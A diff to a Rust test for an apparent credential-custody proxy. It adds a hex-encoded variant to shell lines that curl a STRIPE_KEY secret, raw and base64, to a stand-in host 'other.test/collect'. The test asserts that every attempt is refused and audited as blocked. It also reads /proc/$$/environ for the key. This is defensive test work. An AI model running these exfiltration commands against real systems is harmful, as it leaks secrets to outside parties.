@@ -122,6 +122,7 @@ fn a_bound_value_reaches_only_its_destination_and_never_the_child() {
 {python} -c 'import os, requests; print("requests=%d" % requests.get("https://api.example.test:{port}/v1/balance", headers={{"Authorization": "Bearer " + os.environ["STRIPE_KEY"]}}, timeout=20).status_code)'
 curl -sS -o /dev/null -w 'other=%{{http_code}}\n' -d "$STRIPE_KEY" https://other.test:{port}/collect
 curl -sS -o /dev/null -w 'b64=%{{http_code}}\n' -d "$(printf %s "$STRIPE_KEY" | base64 -w0)" https://other.test:{port}/collect
+curl -sS -o /dev/null -w 'hex=%{{http_code}}\n' -d "$(printf %s "$STRIPE_KEY" | od -An -tx1 | tr -d ' \n')" https://other.test:{port}/collect
 git -c http.extraHeader="Authorization: Bearer $STRIPE_KEY" ls-remote https://api.example.test:{port}/v1/repo.git >/dev/null 2>&1
 tr '\0' '\n' < /proc/$$/environ | grep -c '^STRIPE_KEY=sk_live_custodyPH'
 tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
@@ -140,7 +141,9 @@ tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
         "{text}"
     );
     assert!(
-        lines.contains(&"other=403") && lines.contains(&"b64=403"),
+        ["other=403", "b64=403", "hex=403"]
+            .iter()
+            .all(|l| lines.contains(l)),
         "{text}"
     );
     assert!(lines.contains(&"requests=200"), "{text}");
@@ -167,7 +170,7 @@ tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
         "requests: {seen:?}"
     );
     assert!(!seen.iter().any(|r| r["path"] == "/collect"), "{seen:?}");
-    // Audited by name: two requests sent on with the value, two refused.
+    // Audited by name: the requests sent on with the value, the three refused.
     let sent = e.audit("proxy_request");
     assert!(
         sent.iter()
@@ -177,7 +180,7 @@ tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
         "{sent:?}"
     );
     let blocked = e.audit("exfiltration_blocked");
-    assert_eq!(blocked.len(), 2, "{blocked:?}");
+    assert_eq!(blocked.len(), 3, "{blocked:?}");
     assert_eq!(blocked[0]["event"]["variables"][0], "STRIPE_KEY");
     assert!(
         blocked[0]["event"]["destination"]
